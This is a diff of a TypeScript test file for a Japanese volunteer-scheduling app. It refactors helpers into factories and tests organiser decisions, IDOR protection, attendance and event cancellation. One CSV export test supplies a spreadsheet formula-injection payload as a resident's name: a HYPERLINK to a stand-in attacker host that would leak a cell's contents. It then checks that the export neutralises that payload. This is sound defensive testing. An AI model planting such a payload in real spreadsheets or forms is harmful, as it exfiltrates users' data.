@@ -2,28 +2,11 @@ import { describe, expect, it } from "vitest";
 import { prisma } from "~/utils/db.server";
 import { applyToShift } from "~/modules/participation/participation.server";
 import { applicantsCsv, cancelEventDate, decideApplication, listApplicants, listRegistrants, neutralizeFormula } from "~/modules/participation/organiser.server";
-import { tokyoSlot } from "~/utils/dates";
+import { createEvent, createOpening, createResident, daysFromNow } from "../support/factories";
 
-let seq = 0;
-async function resident(name = "応募 太郎", phone = "049-200-0000") {
-  return prisma.user.create({
-    data: { email: `org-${Date.now()}-${seq++}@example.jp`, name, emailVerifiedAt: new Date(), profile: { create: { phone } } },
-    select: { id: true, email: true },
-  });
-}
-
-async function openingOfGroup(groupId: number, options: { slots: number; needsApproval: boolean; startsInDays?: number }) {
-  const startsAt = new Date(Date.now() + (options.startsInDays ?? 3) * 86400_000);
-  return prisma.opening.create({
-    data: {
-      groupId,
-      title: "テスト用 配膳ボランティア",
-      status: "published",
-      needsApproval: options.needsApproval,
-      shifts: { create: { startsAt, endsAt: new Date(startsAt.getTime() + 3 * 3600_000), slots: options.slots, ...tokyoSlot(startsAt) } },
-    },
-    select: { id: true, shifts: { select: { id: true } } },
-  });
+/** A new published opening of `groupId` with one shift three days from now. */
+function openingOfGroup(groupId: number, { slots, needsApproval }: { slots: number; needsApproval: boolean }) {
+  return createOpening({ id: groupId }, { title: "テスト用 配膳ボランティア", needsApproval, shifts: [{ startsAt: daysFromNow(3), slots }] });
 }
 
 const t = (k: string) => k;
@@ -31,9 +14,9 @@ const t = (k: string) => k;
 describe("organiser decides on applications", () => {
   it("accepts within slots, refuses beyond, declines and frees a slot for the waitlist, emails each decision", async () => {
     const opening = await openingOfGroup(1, { slots: 1, needsApproval: true });
-    const shiftId = opening.shifts[0]!.id;
-    const a = await resident();
-    const b = await resident();
+    const shiftId = opening.shiftIds[0]!;
+    const a = await createResident();
+    const b = await createResident();
     const ra = await applyToShift({ userId: a.id, shiftId, consent: true, message: "" });
     const rb = await applyToShift({ userId: b.id, shiftId, consent: true, message: "" });
     const ida = ra.ok ? ra.applicationId : 0;
@@ -49,8 +32,8 @@ describe("organiser decides on applications", () => {
 
   it("another group cannot touch these applications (IDOR): not found, nothing changes", async () => {
     const opening = await openingOfGroup(1, { slots: 5, needsApproval: true });
-    const u = await resident();
-    const r = await applyToShift({ userId: u.id, shiftId: opening.shifts[0]!.id, consent: true, message: "" });
+    const u = await createResident();
+    const r = await applyToShift({ userId: u.id, shiftId: opening.shiftIds[0]!, consent: true, message: "" });
     const id = r.ok ? r.applicationId : 0;
     expect(await decideApplication({ groupId: 2, applicationId: id, decision: "accept", staffUserId: 1 })).toEqual({ ok: false, reason: "not-found" });
     expect((await prisma.application.findUniqueOrThrow({ where: { id } })).status).toBe("applied");
@@ -59,8 +42,8 @@ describe("organiser decides on applications", () => {
 
   it("records attendance and hours only after the shift started, and the hours count as verified", async () => {
     const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
-    const u = await resident();
-    const r = await applyToShift({ userId: u.id, shiftId: opening.shifts[0]!.id, consent: true, message: "" });
+    const u = await createResident();
+    const r = await applyToShift({ userId: u.id, shiftId: opening.shiftIds[0]!, consent: true, message: "" });
     const id = r.ok ? r.applicationId : 0;
     expect(await decideApplication({ groupId: 1, applicationId: id, decision: "attended", hours: 3, staffUserId: 1 })).toEqual({ ok: false, reason: "not-yet" });
     const later = new Date(Date.now() + 5 * 86400_000);
@@ -74,13 +57,13 @@ describe("organiser decides on applications", () => {
 describe("applicants CSV for Excel", () => {
   it("starts with a BOM, neutralises formulas, keeps Japanese intact, and shows contacts only with consent", async () => {
     const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
-    const shiftId = opening.shifts[0]!.id;
-    const evil = await resident('=HYPERLINK("http://evil.example?"&A1,"x")', "+81 90 1234 5678");
-    const kind = await resident("髙橋 〜①", "049-200-1111");
+    const shiftId = opening.shiftIds[0]!;
+    const evil = await createResident({ name: '=HYPERLINK("http://evil.example?"&A1,"x")', phone: "+81 90 1234 5678" });
+    const kind = await createResident({ name: "髙橋 〜①", phone: "049-200-1111" });
     await applyToShift({ userId: evil.id, shiftId, consent: true, message: "@SUM(1)" });
     await applyToShift({ userId: kind.id, shiftId, consent: true, message: "よろしくお願いします" });
     // A resident who did not consent (an older row): the group sees the name only.
-    const quiet = await resident("同意なし 花子");
+    const quiet = await createResident({ name: "同意なし 花子" });
     await prisma.application.create({ data: { shiftId, userId: quiet.id, status: "accepted", consentToShareContact: false } });
     const csv = (await applicantsCsv(1, opening.id, t, "ja"))!.body;
     expect(csv.charCodeAt(0)).toBe(0xfeff);
@@ -102,22 +85,20 @@ describe("applicants CSV for Excel", () => {
 
 describe("organiser's event registrations", () => {
   async function eventWithRegistration(groupId: number) {
-    const startsAt = new Date(Date.now() + 5 * 86400_000);
-    const event = await prisma.event.create({
-      data: {
-        groupId,
+    const startsAt = daysFromNow(5);
+    const event = await createEvent(
+      { id: groupId },
+      {
         title: "テスト用 健康講座",
-        status: "published",
         registrationRequired: true,
         capacity: 10,
-        dates: { create: { startsAt, endsAt: new Date(startsAt.getTime() + 3600_000), capacity: 10, registeredCount: 2, ...tokyoSlot(startsAt) } },
+        dates: [{ startsAt, endsAt: new Date(startsAt.getTime() + 3600_000), capacity: 10, registeredCount: 2 }],
       },
-      select: { id: true, dates: { select: { id: true } } },
-    });
-    const consenting = await resident("申込 一郎");
-    const silent = await resident("申込 二郎");
-    await prisma.registration.create({ data: { eventDateId: event.dates[0]!.id, userId: consenting.id, status: "accepted", partySize: 1, consentToShareContact: true } });
-    await prisma.registration.create({ data: { eventDateId: event.dates[0]!.id, userId: silent.id, status: "accepted", partySize: 1, consentToShareContact: false } });
+    );
+    const consenting = await createResident({ name: "申込 一郎" });
+    const silent = await createResident({ name: "申込 二郎" });
+    await prisma.registration.create({ data: { eventDateId: event.dateIds[0]!, userId: consenting.id, status: "accepted", partySize: 1, consentToShareContact: true } });
+    await prisma.registration.create({ data: { eventDateId: event.dateIds[0]!, userId: silent.id, status: "accepted", partySize: 1, consentToShareContact: false } });
     return { event, consenting, silent };
   }
 
@@ -133,7 +114,7 @@ describe("organiser's event registrations", () => {
 
   it("cancelling one date keeps its registrations, marks it cancelled and emails everyone registered", async () => {
     const { event, consenting, silent } = await eventWithRegistration(1);
-    const dateId = event.dates[0]!.id;
+    const dateId = event.dateIds[0]!;
     expect(await cancelEventDate({ groupId: 2, eventDateId: dateId, note: "", staffUserId: 1 })).toEqual({ ok: false, reason: "not-found" });
     expect(await cancelEventDate({ groupId: 1, eventDateId: dateId, note: "講師の体調不良のため", staffUserId: 1 })).toEqual({ ok: true });
     const date = await prisma.eventDate.findUniqueOrThrow({ where: { id: dateId } });
